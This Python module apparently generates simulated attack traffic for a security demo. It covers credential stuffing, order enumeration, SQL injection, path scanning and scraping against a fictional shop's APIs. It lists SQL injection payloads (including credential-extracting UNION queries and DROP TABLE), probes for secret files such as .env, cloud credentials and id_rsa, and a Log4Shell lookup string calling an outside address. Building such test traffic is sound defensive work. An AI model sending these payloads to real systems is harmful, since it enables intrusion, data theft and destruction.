"""The planted attacks. Each goes on in waves until stopped, blocked or not: attackers keep trying."""

import random
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

from controlplane.demo import company
from controlplane.demo.traffic.calls import AWS, KONG, Actor, Call, Client, Step
from controlplane.demo.traffic.sessions import API, MOBILE, SHOP, log_in
from controlplane.demo.traffic.world import GO_JA4, PYTHON_JA4, WEB_AGENTS, Person, machine

PASSWORDS = ("Summer2024!", "Welcome1", "123456789", "Password1!", "Qwerty123", "acme2025")
SQL_PAYLOADS = (
    "' OR '1'='1",
    "' OR 1=1--",
    "1' UNION SELECT email,password,3 FROM users--",
    "1; DROP TABLE orders--",
    "' AND pg_sleep(5)--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "') OR ('a'='a",
    "1 UNION ALL SELECT table_name,2,3 FROM information_schema.tables",
)
SCANNED_PATHS = (
    "/.env", "/.env.production", "/.git/HEAD", "/wp-admin/", "/wp-login.php", "/phpmyadmin/", "/actuator/env",
    "/actuator/heapdump", "/server-status", "/.aws/credentials", "/config.json", "/backup.sql", "/admin/config.php",
    "/api/swagger.json", "/v2/api-docs", "/graphql", "/console/", "/solr/admin/", "/jenkins/script", "/cgi-bin/test",
    "/.DS_Store", "/id_rsa", "/debug/vars", "/metrics", "/owa/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/..%2f..%2fetc/passwd", "/?x=${jndi:ldap://203.0.113.66/a}", "/telescope/requests", "/old/", "/test/", "/dump.zip",
)  # fmt: skip


@dataclass(frozen=True)
class Waves:
    """``calls`` per wave at about ``per_second``, then ``gap_s`` of silence."""

    calls: int
    per_second: float
    gap_s: float

    def pause(self, done: int, chance: random.Random) -> float:
        """The pause after call number ``done`` (from 1)."""
        if done % self.calls == 0:
            return self.gap_s
        return chance.uniform(0.6, 1.4) / self.per_second


def credential_stuffing(chance: random.Random, waves: Waves) -> Actor:
    """Many addresses, at most three tries each, stolen address/password pairs; hits are taken over at once."""
    done = tries_left = 0
    client: Client = _proxy(chance)
    while True:
        if tries_left == 0:
            client, tries_left = _proxy(chance), chance.randrange(1, 4)
        number = chance.choice(company.CUSTOMERS)
        email = (
            company.customer(number).email if chance.random() < 0.8 else f"lost.user.{number}@mail.example"
        )
        password = PASSWORDS[0] if chance.random() < 0.5 else chance.choice(PASSWORDS)
        target, host, path = chance.choice(((AWS, API, "/login"), (KONG, SHOP, "/accounts/login")))
        done, tries_left = done + 1, tries_left - 1
        call = Call(target, host, "POST", path, client, json={"email": email, "password": password})
        answer = yield Step(call, waves.pause(done, chance))
        if token := answer.json().get("token"):
            bearer = {"Authorization": f"Bearer {token}"}
            for taken in ("/me", "/orders"):
                yield Step(Call(AWS, API, "GET", taken, client, bearer), 0.8)


def _proxy(chance: random.Random) -> Client:
    address = f"198.19.{chance.randrange(128, 136)}.{chance.randrange(1, 255)}"
    return machine(
        address, chance.choice(WEB_AGENTS), chance.choice(("BR", "VN", "ID", "US", "RU")), PYTHON_JA4, 64_666
    )


def object_enumeration(chance: random.Random, waves: Waves) -> Actor:
    """One customer with a valid login reads everybody's orders one by one (BOLA)."""
    who = Person(1013, False, machine("198.51.100.77", WEB_AGENTS[2], "NL", asn=64_501))
    token, number, done = "", company.FIRST_ORDER, 0
    while True:
        if not token:
            token = yield from log_in(who, chance, AWS, API, "/login")
            if not token:
                yield Step(None, 10)
                continue
        bearer = {"Authorization": f"Bearer {token}"}
        done, number = done + 1, number + 1
        answer = yield Step(
            Call(AWS, API, "GET", f"/orders/{number}", who.client, bearer), waves.pause(done, chance)
        )
        token = "" if answer.status == 401 else token


def sql_injection(chance: random.Random, waves: Waves) -> Actor:
    """Payloads in query strings and paths of the order and catalogue APIs."""
    done = 0
    while True:
        agent = "sqlmap/1.8.11#stable (https://sqlmap.org)" if chance.random() < 0.4 else WEB_AGENTS[0]
        client = machine("203.0.113.200", agent, "RO", PYTHON_JA4, 64_667)
        payload = quote(chance.choice(SQL_PAYLOADS), safe="")
        target, host, path = chance.choice(
            (
                (AWS, API, f"/customers/{payload}"),
                (AWS, API, f"/orders?status={payload}"),
                (AWS, MOBILE, f"/feed?category={payload}"),
                (KONG, SHOP, f"/catalog/search?q={payload}"),
                (KONG, SHOP, f"/catalog/products/{payload}"),
            )
        )
        done += 1
        yield Step(Call(target, host, "GET", path, client), waves.pause(done, chance))


def vulnerability_scan(chance: random.Random, waves: Waves) -> Actor:
    """Two hosts that ask for files which should not exist, on every API."""
    done = 0
    while True:
        for path in chance.sample(SCANNED_PATHS, len(SCANNED_PATHS)):
            target, host = chance.choice(((AWS, API), (AWS, MOBILE), (KONG, SHOP)))
            agent = (
                "Mozilla/5.0 (compatible; Nuclei - Open-source project)"
                if done % 3
                else "Mozilla/5.0 zgrab/0.x"
            )
            client = machine(chance.choice(("203.0.113.66", "192.0.2.200")), agent, "CN", GO_JA4, 64_668)
            done += 1
            yield Step(Call(target, host, "GET", path, client), waves.pause(done, chance))


def scraping(chance: random.Random, waves: Waves) -> Actor:
    """Four machines that copy the catalogue, page after page, faster than people read."""
    done = page = 0
    while True:
        page = page % 7 + 1
        client = machine(f"198.51.100.{140 + done % 4}", "python-requests/2.32.3", "US", PYTHON_JA4, 64_669)
        done += 1
        listing = Call(KONG, SHOP, "GET", f"/catalog/products?page={page}&size=100", client)
        yield Step(listing, waves.pause(done, chance))
        for _ in range(3):
            done += 1
            path = f"/catalog/products/{chance.choice(company.PRODUCTS)}"
            yield Step(Call(KONG, SHOP, "GET", path, client), waves.pause(done, chance))


ATTACKS: dict[str, tuple[Callable[[random.Random, Waves], Actor], Waves, float]] = {
    "credential_stuffing": (credential_stuffing, Waves(240, 2.5, 40), 20),
    "object_enumeration": (object_enumeration, Waves(180, 1.5, 60), 30),
    "sql_injection": (sql_injection, Waves(90, 0.8, 45), 25),
    "vulnerability_scan": (vulnerability_scan, Waves(96, 2.0, 75), 40),
    "scraping": (scraping, Waves(320, 3.0, 60), 35),
}
"""Name -> (actor, waves, seconds after start at which the first wave begins)."""
